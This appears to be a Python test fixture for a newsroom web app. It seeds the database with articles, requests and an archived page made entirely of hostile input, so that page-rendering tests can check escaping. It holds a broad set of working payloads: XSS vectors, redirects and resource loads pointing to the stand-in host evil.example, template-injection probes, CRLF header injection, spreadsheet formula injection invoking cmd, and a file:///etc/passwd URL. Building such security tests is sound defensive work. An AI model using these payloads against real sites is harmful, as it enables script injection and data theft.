"""A desk whose every text was written by somebody who means it ill: for the tests with and without a browser."""

from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

from argon2 import PasswordHasher

from archive.warc import WarcWriter
from bulletin.article import Article, Heading, Image, Listed, OriginClue, Paragraph, Table
from bulletin.candidate import Choice, Decision, Judged, Manuscript
from bulletin.night import Alarm, CrawlRun, ListingState, ListingVisit, Outcome
from bulletin.outlet import Status
from bulletin.period import month
from bulletin.person import Role
from bulletin.request import RequestKind, RequestState
from bulletin.series import load_series
from bulletin.settings import Settings
from bulletin.story import Printed
from bulletin.verdict import Queue, Reason, Verdict
from issuing.drafting import draft_issue
from storage import articles, decisions, journal, manuscripts, marks, nights, people, requests, saved_filters
from storage.store import Store

NOW = datetime(2024, 8, 20, 18, 0, tzinfo=UTC)
AUGUST = month(date(2024, 8, 1))
SECRET = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1).hash("一句好记的密码 12")
RUN = "window.__pwned=1"
"""What each of the texts tries to have run; a watcher asks for it."""
ELSEWHERE = "https://evil.example"
"""A host that nothing may ever ask."""

TEXTS = {
    "script": f"<script>{RUN};alert(1)</script>",
    "closers": f"</textarea></title></script></style></template></noscript>--><script>{RUN}</script><b>",
    "handlers": f'"><img src=x onerror="{RUN}"><body onload={RUN}>\' autofocus onfocus=\'{RUN}',
    "svg": f"<svg onload={RUN}><script href='{ELSEWHERE}/s.js'/><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "css": f"<style>@import '{ELSEWHERE}/c.css';*{{background:url({ELSEWHERE}/b.png)}}</style>x:expression({RUN})",
    "link": f"javascript:{RUN}//https://a.example/?x=<script>{RUN}</script>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><base href={ELSEWHERE}>"
    f"<meta http-equiv=refresh content='0;{ELSEWHERE}'><form action={ELSEWHERE}><input name=token>",
    "entities": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt; &lt;img src=x onerror={RUN}&gt; &#60;b&#62;",
    "template": "{{7*7}} {% raw %} {# c #} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}} "
    "%(a)s {0}",
    "turned": "正常\u202e字反过来\u2066的\u200b零\u200d宽\ufeff与\u00ad连字\u2028换行\u0085",
    "control": "NUL\x00响铃\x07退格\x08换\r\nSet-Cookie: x=1\r\n\r\n<script>"
    + f"{RUN}</script>\x1b[31m半个\ud800字\udfff\ufffe\uffff",
    "formula": "=cmd|'/C calc'!A0",
    "plus": "+1+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "wide": '＝HYPERLINK("https://evil.example")',
    "tab": "\t=1+1",
    "long": "长" * 50_000 + "x" * 50_000,
}
"""A text of every hostile kind, by name."""
ADDRESSES = (
    f"javascript:{RUN}", "JaVa\tScRiPt:alert(1)", f"data:text/html,<script>{RUN}</script>", "vbscript:msgbox(1)",
    f'https://a.example/"onmouseover="{RUN}', "https://user:word@a.example/", f"//{ELSEWHERE[8:]}/x", "file:///etc/passwd",
)  # fmt: skip
PAGE = (
    f"<!doctype html><html><head><title>{TEXTS['closers']}</title><base href='{ELSEWHERE}/'>"
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/r'><link rel=preconnect href={ELSEWHERE}>"
    f"<link rel=stylesheet href={ELSEWHERE}/l.css><script src={ELSEWHERE}/s.js></script>"
    f"<script>{RUN};parent.{RUN};top.location='{ELSEWHERE}/t'</script></head>"
    f"<body onload='{RUN}' background={ELSEWHERE}/bg.png>{''.join(TEXTS[name] for name in TEXTS if name != 'long')}"
    f"<a id=out href='{ELSEWHERE}/a' target=_top ping={ELSEWHERE}/p>往外</a>"
    f"<video src={ELSEWHERE}/v poster={ELSEWHERE}/p></video><object data={ELSEWHERE}/o></object>"
    f"<embed src={ELSEWHERE}/e><iframe src={ELSEWHERE}/f></iframe>"
    f"<img srcset='{ELSEWHERE}/i 2x' src=http://127.0.0.1:1/i><input autofocus onfocus={RUN}>"
    f"<form action={ELSEWHERE}/form><button>去</button></form></body></html>"
)
"""A page as a hostile site gives it."""


@dataclass(frozen=True, slots=True)
class Newsroom:
    """What was put into the store: candidates by the name of their text, a night, requests, a person."""

    candidates: dict[str, int]
    night: int
    requests: tuple[int, ...]
    person: int

    @property
    def first(self) -> int:
        """The candidate whose every field is a script."""
        return self.candidates["script"]


def article(name: str) -> Article:
    """An article whose every field is the text of that name."""
    title, text = TEXTS[name], TEXTS[name][:2_000]
    number = list(TEXTS).index(name)
    blocks = (
        Paragraph(text),
        Heading(text, 3),
        Image(ADDRESSES[number % len(ADDRESSES)], text, text),
        Image(f"{ELSEWHERE}/{number}.png", text, text),
        Table(((text, text), (text,))),
        Listed((text, "第二项"), True),
        Paragraph(f"第{number}家医院上线电子健康卡平台，居民可以复诊开药。" * 4),
    )
    return Article(
        outlet="qianlong",
        url=ADDRESSES[number % len(ADDRESSES)],
        title=title,
        blocks=blocks,
        subtitle=text,
        original_title=text,
        source=text,
        account=text,
        author=text,
        editor=text,
        published=date(2024, 8, 1 + number),
        published_raw=text,
        dateline=text,
        clues=(OriginClue("credit", text, ADDRESSES[0]), OriginClue("link", text, f"{ELSEWHERE}/clue")),
        rules=(("title", text[:200]),),
        flags=("no-source", "dates-disagree"),
        charset="utf-8",
    )


def judged(name: str, warc: str = "", offset: int = 0) -> Judged:
    """A shortlisted article of that text, found in the August of the tests."""
    text = TEXTS[name]
    number = list(TEXTS).index(name)
    key = f"www.evil.example/{number}/%2e%2e/?q=%23"
    reason = Reason(text[:500], ("script", text[:20], "电子健康卡"), 0.75)
    verdict = Verdict(0.99 - number / 100, Queue.SHORTLIST, (reason,), (text[:40],), text[:20])
    return Judged(key, article(name), verdict, NOW, text[:2_000], "A", None, text[:200], warc, offset)


def manuscript(name: str) -> Manuscript:
    """The same as an editor would have saved it."""
    text, made = TEXTS[name], article(name)
    return Manuscript(
        text,
        text[:2_000],
        made.url,
        made.published,
        (*made.blocks, Paragraph("改过。")),
        text[:2_000],
        1,
        text[:40],
        NOW,
    )


def fill(store: Store, settings: Settings) -> Newsroom:
    """Put it all into a store."""
    place = recorded(settings)
    with store.writing() as session:
        articles.add_judged(session, [judged(name, *place) for name in TEXTS])
    with store.reading() as session:
        found = {name: articles.candidate_by_key(session, judged(name).key) for name in TEXTS}
    ids = {name: each.id for name, each in found.items() if each is not None}
    decide(store, ids)
    with store.writing() as session:
        number = nights.open_night(session, NOW - timedelta(days=1), NOW, NOW, TEXTS["script"][:40]).id
        nights.save_run(session, number, crawl_run())
        nights.finish_night(session, number, NOW + timedelta(hours=1), False)
        person = people.add_person(session, TEXTS["handlers"][:39], SECRET, (Role.EDITOR,), NOW).id
        saved_filters.save_filter(session, person, "candidates", TEXTS["script"], "period=2024-08&search=%3Cscript%3E")
        for name, text in TEXTS.items():
            journal.note(
                session, NOW, text[:40], text[:200], f"candidate:{ids[name]}", {"x": text[:900]}, {"y": text[:900]}
            )
    draft_issue(store, load_series(), AUGUST, NOW, TEXTS["script"])
    return Newsroom(ids, number, asked(store, ids["script"]), person)


def recorded(settings: Settings) -> tuple[str, int]:
    """The hostile page in the archive; where it lies."""
    writer = WarcWriter(settings.archive / "nights" / "night.warc.gz")
    headers = [("Content-Type", "text/html; charset=utf-8"), ("Refresh", f"0;url={ELSEWHERE}"), ("Set-Cookie", "a=1")]
    offset = writer.add("https://www.evil.example/0", 200, headers, PAGE.encode("utf-8", "replace"), NOW)
    writer.close()
    return "night.warc.gz", offset


def decide(store: Store, ids: dict[str, int]) -> None:
    """All decided in one way or another, with hostile notes and names; most have a manuscript and were printed."""
    choices = (Choice.ACCEPTED, Choice.ACCEPTED, Choice.ACCEPTED, Choice.RESERVE)
    with store.writing() as session:
        for place, (name, number) in enumerate(ids.items()):
            text = TEXTS[name]
            if name not in ("formula", "control"):
                manuscripts.save_manuscript(session, number, manuscript(name), 0)
            if place % 5 != 4:
                decisions.decide(session, number, Decision(choices[place % 4], text[:40], NOW, None, text[:300]))
            marks.put_printed(session, number, [Printed(536, text[:30], 0, 2, text[:500], 0.8, False)])


def crawl_run() -> CrawlRun:
    """What one outlet gave, in the words of a hostile site."""
    visits = tuple(
        ListingVisit(text[:300], ADDRESSES[place % len(ADDRESSES)], ListingState.BLOCKED, 1, 1, 1, text[:300])
        for place, text in enumerate(TEXTS.values())
    )
    alarms = tuple(Alarm("blocked", text[:300], text[:300]) for text in TEXTS.values())
    return CrawlRun("qianlong", Status.ACTIVE, visits, outcome=Outcome.BLOCKED, alarms=alarms)


def asked(store: Store, candidate: int) -> tuple[int, ...]:
    """Requests of every kind, each ended with hostile words."""
    text = TEXTS["script"] + TEXTS["handlers"]
    moved = {"from": "low", "to": "shortlist", "count": 1, "titles": [{"id": 1, "title": text, "was": 0.1, "now": 0.9}]}
    link = {"href": ADDRESSES[0], "date": text, "title": text}
    kinds: tuple[tuple[RequestKind, dict[str, Any], dict[str, Any]], ...] = (
        (RequestKind.LINK, {"url": ADDRESSES[0]}, {"why": "blocked", "detail": text}),
        (RequestKind.GIVEN, {"url": f"{ELSEWHERE}/g", "html": text}, {"candidate": candidate}),
        (RequestKind.CRAWL, {"outlets": [text]}, {"night": 1, "detail": text}),
        (RequestKind.PICTURES, {"candidate": candidate}, {"candidate": candidate, "fetched": [text],
         "missing": [{"url": ADDRESSES[0], "reason": "refused", "detail": text}]}),
        (RequestKind.LEXICON, {"text": text, "period": "2024-08"}, {"directions": [moved]}),
        (RequestKind.PROBE, {"url": ADDRESSES[0]}, {"toml": text, "links": [link]}),
        (RequestKind.PROBE, {"outlet": "x", "text": text}, {"outlet": "x", "lines": [text]}),
    )  # fmt: skip
    numbers = []
    with store.writing() as session:
        for place, (kind, given, result) in enumerate(kinds):
            number = requests.ask(session, kind, given, text[:40], NOW)
            state = RequestState.DONE if place % 2 else RequestState.FAILED
            requests.end(session, number, state, text, NOW, result)
            numbers.append(number)
    return tuple(numbers)


def pages(room: Newsroom) -> list[str]:
    """Every page of the desk that shows anything of the hostile newsroom."""
    paths = [
        "/candidates?period=2024-08", "/candidates?period=2024-08&word=%3Cscript%3E", "/issue/2024-08",
        "/issue/2024-08/versions", "/issue/2024-08/strays", "/issues", "/issues?q=%3Cscript%3E", "/issues/import",
        "/nights", "/nights?look=true", "/nights/older?before=99", f"/nights/{room.night}", "/outlets/qianlong",
        "/outlets/why?url=%3Cscript%3E", "/paste?url=%22%3E%3Cscript%3E", "/people", "/password", "/journal",
        "/journal?subject=%3Cscript%3E&by=%22onfocus%3D", "/exports", "/figures", "/requests", "/help", "/settings",
        "/settings?q=%3Cscript%3E", "/settings/program", "/settings/new-outlet", "/settings/template",
        "/settings/outlets/qianlong", "/settings/lexicon", "/settings/series", "/settings/checks", "/search",
        "/search?q=%3Cscript%3E", "/search?q=cmd", "/search?q=%E9%95%BF%E9%95%BF", "/search?q=%7B%7B7",
        "/no/such/%3Cscript%3Ealert(1)%3C/script%3E",
    ]  # fmt: skip
    paths += [f"/settings/new-outlet?request={number}" for number in room.requests]
    paths += [f"/requests/{number}" for number in room.requests]
    for number in room.candidates.values():
        own = f"/articles/{number}"
        paths += [own, f"{own}/edit", f"{own}/fetched", f"{own}/versions/1", f"{own}/beside/{room.first}"]
        paths.append(f"/candidates/{number}/part")
    return paths
